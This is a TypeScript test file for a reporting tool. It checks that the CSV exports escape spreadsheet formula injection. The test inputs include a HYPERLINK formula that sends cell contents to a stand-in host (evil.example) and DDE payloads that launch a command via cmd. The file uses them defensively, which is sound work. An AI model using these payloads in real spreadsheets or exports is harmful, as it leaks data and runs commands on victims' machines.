import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { sampleStaff } from '#cli/sample/sample-staff.ts';
import { batchPut } from '#shared/adapters/dynamodb/batch-put.ts';
import { DynamoDbReportSource } from '#shared/adapters/dynamodb/dynamodb-report-source.ts';
import { SnapshotStore } from '#shared/adapters/dynamodb/snapshot-store.ts';
import { presetPolicy } from '#shared/policy/presets/preset-catalog.ts';
import { buildReport } from '#shared/reports/build-report.ts';
import { csvFile } from '#shared/reports/csv-file.ts';
import { ZonedClock } from '#shared/time/zoned-clock.ts';
import { formatScores } from '../../cli/score-output.ts';
import { type LocalTables, localTables } from '../helpers/local-tables.ts';

/** The cells of a CSV as a spreadsheet gets them (BOM dropped, quotes undone). */
const cells = (csv: string): string[][] =>
  parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];

const HOSTILE_STORE = '=HYPERLINK("http://evil.example/?d="&A2,"查看 Details")';

describe('CSV cells a spreadsheet would run as formulas', () => {
  it('are written as text: = + - @, a tab or a carriage return first gets a leading quote', () => {
    const hostile = [
      HOSTILE_STORE,
      '+cmd|" /C calc"!A0',
      '-2+3+cmd|" /C calc"!A0',
      '@SUM(1+9)*cmd|" /C calc"!A0',
      '\t=1+1',
      '\r=1+1',
    ];
    const [header, ...rows] = cells(
      csvFile(
        ['value'],
        hostile.map((value) => [value]),
      ),
    );
    expect(header).toEqual(['value']);
    expect(rows.map(([cell]) => cell)).toEqual(hostile.map((value) => `'${value}`));
  });

  it('leaves numbers numbers, negative amounts included, and ordinary text alone', () => {
    const [, row] = cells(
      csvFile(
        ['amount', 'change', 'share', 'exponent', 'store', 'evidence', 'empty'],
        [[-12.5, '-5.00', '0.5000', '1e-7', 'STORE-01', '最近 45 天未到店 (last visit 45 days ago)', undefined]],
      ),
    );
    expect(row).toEqual([
      '-12.5',
      '-5.00',
      '0.5000',
      '1e-7',
      'STORE-01',
      '最近 45 天未到店 (last visit 45 days ago)',
      '',
    ]);
  });

  it("guards the CLI's score export the same way", () => {
    const csv = formatScores(
      [
        {
          customerId: '-C1',
          storeId: HOSTILE_STORE,
          level: 1,
          indicators: [{ id: 'visit_gap', core: false, evidence: '=1+1' }],
          policyVersion: 'v1',
        } as never,
      ],
      'csv',
    );
    const [header, row] = cells(csv);
    const at = (name: string) => row?.[header!.indexOf(name)];
    expect([at('customerId'), at('storeId'), at('level'), at('evidence')]).toEqual([
      "'-C1",
      `'${HOSTILE_STORE}`,
      '1',
      'visit_gap: =1+1',
    ]);
  });
});

describe('a hostile store id in the monthly risk list', () => {
  let local: LocalTables;
  const policy = presetPolicy('script-kill');
  const clock = new ZonedClock(policy.timeZone);

  beforeAll(async () => {
    local = await localTables();
    const runId = 'monthly-2026-12-01T03:00:00+08:00';
    // As the monthly screening keeps it: an entry per customer at risk, and the alert it points to.
    await new SnapshotStore(local.doc, local.names).riskList(runId, Date.parse('2026-12-01T03:00:00+08:00'), [
      {
        customerId: 'C-0001',
        storeId: HOSTILE_STORE,
        level: 2,
        indicators: [{ id: 'visit_gap', core: false, evidence: 'last visit 75 days ago' }],
        alertId: 'a1',
        priority: -12.5,
      },
    ]);
    await batchPut(
      local.doc,
      local.names.staff,
      sampleStaff(
        ['S1'],
        Object.values(policy.owners).map((owner) => owner.role),
      ).people,
    );
    await batchPut(local.doc, local.names.alerts, [
      {
        customerId: 'C-0001',
        alertId: 'a1',
        storeId: HOSTILE_STORE,
        level: 2,
        status: 'in_progress',
        identifiedAt: '2026-12-01T03:00:00+08:00',
        indicators: [],
        levelHistory: [],
      },
    ]);
  });

  it("reaches the report's CSV (the file, its S3 copy and the email attachment) as text, not a formula, numbers intact", async () => {
    const report = await buildReport('risk-list', '2026-12', {
      source: new DynamoDbReportSource(local.doc, local.names, clock),
      policy,
      clock,
    });
    const [header, ...rows] = cells(report.csv);
    expect(rows).toHaveLength(1);
    const at = (name: string) => rows[0]?.[header!.indexOf(name)];
    expect(at('store')).toBe(`'${HOSTILE_STORE}`);
    expect(at('level')).toBe('2');
    expect(at('priority')).toBe('-12.5');
    // No cell of the file starts a formula.
    for (const cell of rows.flat()) expect(cell, cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
  });
});
